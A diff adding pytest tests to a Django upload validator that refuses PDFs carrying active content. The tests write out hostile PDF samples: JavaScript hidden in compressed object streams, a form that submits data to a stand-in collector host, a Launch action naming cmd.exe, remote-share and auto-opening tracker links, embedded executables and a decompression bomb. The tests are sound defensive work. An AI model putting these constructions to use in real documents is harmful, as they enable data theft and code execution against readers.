@@ -7,6 +7,7 @@ import logging
 import random
 import re
 import stat
+import zlib
 
 import pytest
 from django import forms
@@ -48,6 +49,7 @@ from tests.fixtures.uploads import (
     object_stream,
     pdf_bytes,
     pdf_with_catalog,
+    pdf_with_object_stream,
     png_bytes,
     png_declaring,
     png_text,
@@ -359,6 +361,130 @@ def test_an_encrypted_pdf_is_refused():
     error = refusal(uploaded("locked.pdf", pypdf_bytes(writer)))
     assert error.code == "pdf_encrypted"
     assert "'locked.pdf' is protected with a password" in message(error)
+
+
+def active(pdf: bytes) -> bool:
+    return refusal(uploaded("form.pdf", pdf)).code == "pdf_active_content"
+
+
+def test_a_pdf_with_a_rendition_action_is_refused():
+    screen = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A 5 0 R >>"
+    rendition = b"<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (clip.mp4) >> >> >>"
+    assert active(pdf_with_catalog(b"/Names << /Dests 4 0 R >>", screen, rendition))
+
+
+def test_a_pdf_with_an_xfa_form_is_refused():
+    xdp = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
+    assert active(
+        pdf_with_catalog(
+            b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"<< /Length %d >>\nstream\n%s\nendstream" % (len(xdp), xdp)
+        )
+    )
+
+
+def test_a_pdf_that_submits_its_form_is_refused():
+    submit = b"<< /S /SubmitForm /F << /FS /URL /F (https://collector.example/) >> /Flags 256 >>"
+    assert active(pdf_with_catalog(b"/AA << /WC 4 0 R >>", submit))
+
+
+def test_a_pdf_that_imports_data_from_the_officers_disk_is_refused():
+    assert active(pdf_with_catalog(b"/OpenAction 4 0 R", b"<< /S /ImportData /F (C:\\\\Users\\\\data.fdf) >>"))
+
+
+@pytest.mark.parametrize(
+    "action",
+    [
+        b"<< /S /GoToE /T << /R /C /N (x.pdf) >> >>",
+        b"<< /S /GoToR /F (\\\\\\\\203.0.113.7\\\\share\\\\x.pdf) /D [0 /Fit] >>",
+    ],
+    ids=["go-to-embedded", "go-to-remote-share"],
+)
+def test_a_pdf_that_opens_another_file_is_refused(action):
+    assert active(pdf_with_catalog(b"/OpenAction 4 0 R", action))
+
+
+def test_a_javascript_action_in_a_listed_compressed_object_stream_is_refused():
+    pdf = pdf_with_object_stream(b"/OpenAction 5 0 R", b"<< /S /JavaScript /JS (app.alert(1)) >>")
+    assert b"/JavaScript" not in pdf  # only a parser that inflates the stream can see it
+    assert active(pdf)
+
+
+def test_an_action_whose_type_is_an_indirect_name_is_refused():
+    pdf = pdf_with_object_stream(b"/OpenAction 5 0 R", b"<< /S 6 0 R /F (cmd.exe) >>", b"/Launch")
+    assert active(pdf)
+
+
+def test_a_pdf_with_ordinary_objects_in_a_listed_object_stream_is_accepted():
+    pdf = pdf_with_object_stream(b"/Info 5 0 R", b"<< /Title (Letter) /Producer (Scanner) >>", b"<< /Type /Font >>")
+    assert clean_upload(uploaded("letter.pdf", pdf)).content == pdf
+
+
+def pypdf_attachment() -> bytes:
+    writer = PdfWriter()
+    writer.add_blank_page(200, 200)
+    writer.add_attachment("invoice.exe", b"MZ\x90\x00")
+    return pypdf_bytes(writer)
+
+
+@pytest.mark.parametrize(
+    "pdf",
+    [
+        pytest.param(pypdf_attachment(), id="document-embedded-files"),
+        pytest.param(
+            pdf_with_catalog(
+                b"/Names << /Dests 4 0 R >>",
+                b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 5 0 R >>",
+                b"<< /Type /Filespec /F (x.exe) >>",
+            ),
+            id="file-attachment-annotation",
+        ),
+    ],
+)
+def test_a_pdf_with_an_embedded_file_is_refused(pdf):
+    assert active(pdf)
+
+
+def test_a_link_to_a_web_page_is_accepted_but_one_that_opens_by_itself_is_refused():
+    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://example.org/) >> >>"
+    pdf = pdf_with_catalog(b"/Names << /Dests 4 0 R >>", link)
+    assert clean_upload(uploaded("letter.pdf", pdf)).content == pdf
+    assert active(pdf_with_catalog(b"/OpenAction 4 0 R", b"<< /S /URI /URI (https://tracker.example/opened) >>"))
+    chained = b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://tracker.example/) >> >>"
+    assert active(pdf_with_catalog(b"/OpenAction 4 0 R", chained))
+
+
+def test_an_open_action_that_only_turns_to_a_page_is_accepted():
+    pdf = pdf_with_catalog(b"/OpenAction [3 0 R /Fit]")
+    assert clean_upload(uploaded("letter.pdf", pdf)).content == pdf
+
+
+def test_a_pdf_decompression_bomb_in_an_object_stream_is_refused():
+    inflated = b"10 0\n<< >>\n" + b" " * (100 * MB)
+    squeezed = zlib.compress(inflated, 9)
+    assert len(squeezed) < MB
+    stream = b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n" % len(squeezed)
+    assert refusal(uploaded("bomb.pdf", pdf_bytes(stream + squeezed + b"\nendstream"))).code == "pdf_unchecked"
+
+
+def test_a_deeply_nested_object_is_refused():
+    nested = b"[" * 50_000 + b"]" * 50_000
+    assert refusal(uploaded("deep.pdf", pdf_bytes(nested))).code == "pdf_unchecked"
+
+
+def test_a_pdf_with_more_objects_than_the_cap_is_refused(monkeypatch):
+    monkeypatch.setattr(uploads.pdf, "_PDF_MAX_OBJECTS", 50)
+    assert refusal(uploaded("many.pdf", pdf_bytes(b"[" + b"[] " * 100 + b"]"))).code == "pdf_unchecked"
+
+
+def test_references_that_loop_or_lead_nowhere_are_checked_once_and_accepted():
+    pdf = pdf_bytes(b"<< /Next 5 0 R /Self 4 0 R >>", b"<< /Next 4 0 R /Missing 99 0 R >>")
+    assert clean_upload(uploaded("letter.pdf", pdf)).content == pdf
+
+
+def test_a_pdf_whose_cross_reference_table_is_stale_is_checked_as_readers_rebuild_it():
+    pdf = javascript_open_action()
+    shifted = pdf[:15] + b"%" + b"x" * 4000 + b"\n" + pdf[15:]  # every listed offset now points into the comment
+    assert active(shifted)
 
 
 # --- images ------------------------------------------------------------------------
